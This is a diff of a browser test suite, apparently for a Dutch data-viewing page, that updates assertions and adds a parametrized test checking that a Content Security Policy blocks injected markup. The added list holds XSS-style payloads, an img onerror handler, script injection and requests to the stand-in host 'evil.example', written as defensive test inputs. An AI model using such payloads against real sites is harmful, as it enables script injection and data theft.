@@ -97,7 +97,7 @@ def test_the_first_page_answers_what_we_know(index, opened):
 
 def test_a_table_shows_titles_meanings_dates_and_who_was_masked(index, opened):
     watch = opened(index, "usage_resourceview")
-    expect(watch.page.locator("tbody tr").first).to_contain_text(re.compile(r"(Breuken|Romeinen|Fotosynthese).*28 nov 2026", re.DOTALL))
+    expect(watch.page.locator("tbody tr").first).to_contain_text(re.compile(r"(Breuken|Romeinen|Fotosynthese).*29 nov 2026, 00:30", re.DOTALL))
 
     watch.page.goto(f"{index.as_uri()}#accounts_member")
     expect(watch.page.locator(".facts").first).to_contain_text(re.compile(r"vrouw.*12 apr 1985.*ja.*9007199254740993", re.DOTALL))
@@ -160,11 +160,11 @@ def test_a_search_without_hits_says_so(index, opened):
 def test_another_language_is_one_press_away(code, asked, index, opened):
     watch = opened(index)
 
-    watch.page.get_by_role("button", name=code).press("Enter")
+    watch.page.get_by_role("button", name=f"{code}, ").press("Enter")
 
     expect(watch.page.get_by_role("heading", level=1)).to_have_text(asked)
     expect(watch.page.locator("html")).to_have_attribute("lang", code.lower())
-    expect(watch.page.get_by_role("button", name=code)).to_be_focused()
+    expect(watch.page.get_by_role("button", name=f"{code}, ")).to_be_focused()
     expect(watch.page.locator(".bars [lang=nl]").first).to_be_visible()
     assert_silent(watch)
 
@@ -213,24 +213,33 @@ def test_a_search_goes_through_hostile_tables(hostile_index, opened):
     assert_stayed_home(watch, hostile_index)
 
 
-def test_a_script_that_got_in_could_not_run_nor_call(index, opened):
-    """Were there a way for markup after all: the policy stops it."""
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "body.innerHTML = `<img src=x onerror='window.ran = true'>`",
+        "add('script').textContent = 'window.ran = true'",
+        "add('script').src = 'https://evil.example/x.js'",
+        "add('a').setAttribute('onclick', 'window.ran = true'); body.lastChild.click()",
+        "add('img').src = 'https://evil.example/x.png'",
+        "add('iframe').src = 'https://evil.example/'",
+        "await fetch('https://evil.example/')",
+    ],
+)
+def test_a_script_that_got_in_could_not_run_nor_call(attempt, index, opened):
+    """Were there a way for markup after all: the policy stops what it would do next."""
     watch = opened(index)
-    watch.page.wait_for_selector("h1")
+    expect(watch.page.get_by_role("heading", level=1)).to_be_visible()
 
-    ran = watch.page.evaluate("""async () => {
-        const outcome = [];
-        const script = document.createElement("script");
-        script.textContent = "window.ran = true";
-        document.body.append(script);
-        outcome.push(window.ran === true);
-        try { document.body.innerHTML = "<img src=x onerror='window.ran = true'>"; outcome.push(true); } catch { outcome.push(false); }
-        await fetch("https://evil.example/").then(() => outcome.push(true), () => outcome.push(false));
-        return outcome;
-    }""")
+    watch.page.evaluate(
+        f"""async () => {{
+        const body = document.body, add = tag => body.appendChild(document.createElement(tag));
+        try {{ {attempt}; }} catch {{ /* refused at once */ }}
+    }}"""
+    )
 
-    assert ran == [False, False, False]
-    assert any("Content Security Policy" in complaint or "CSP" in complaint for complaint in watch.complaints)
+    assert watch.page.evaluate("window.ran") is None
+    assert any("Content Security Policy" in complaint or "Trusted" in complaint for complaint in watch.complaints)
+    assert not any("evil.example" in request.url for request in watch.fetched)
 
 
 def test_a_table_whose_file_was_left_out_says_what_to_do(tmp_path, opened):
